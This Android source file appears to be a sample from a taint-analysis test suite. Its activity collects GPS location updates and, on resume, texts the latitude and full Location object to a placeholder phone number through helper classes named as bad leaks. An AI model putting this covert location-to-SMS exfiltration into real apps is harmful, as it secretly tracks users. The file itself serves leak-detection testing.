package org.gdroid.samples.locationthenresume;

import android.app.Activity;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;

/** The activity is its own listener; what it heard leaks when it is resumed. */
public class Main extends Activity implements LocationListener {
    private double latitude;
    private Location last;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
        manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 1000, 1, this);
    }

    @Override
    protected void onResume() {
        super.onResume();
        NumberBad.run(latitude);
        ObjectBad.run(last);
    }

    @Override
    public void onLocationChanged(Location location) {
        latitude = location.getLatitude();
        last = location;
    }

    @Override
    public void onStatusChanged(String provider, int status, Bundle extras) {}

    @Override
    public void onProviderEnabled(String provider) {}

    @Override
    public void onProviderDisabled(String provider) {}
}

class NumberBad {
    static void run(double latitude) {
        SmsManager.getDefault().sendTextMessage("+49 1234", null, Double.toString(latitude), null, null);
    }
}

class ObjectBad {
    static void run(Location last) {
        SmsManager.getDefault().sendTextMessage("+49 1234", null, String.valueOf(last), null, null);
    }
}
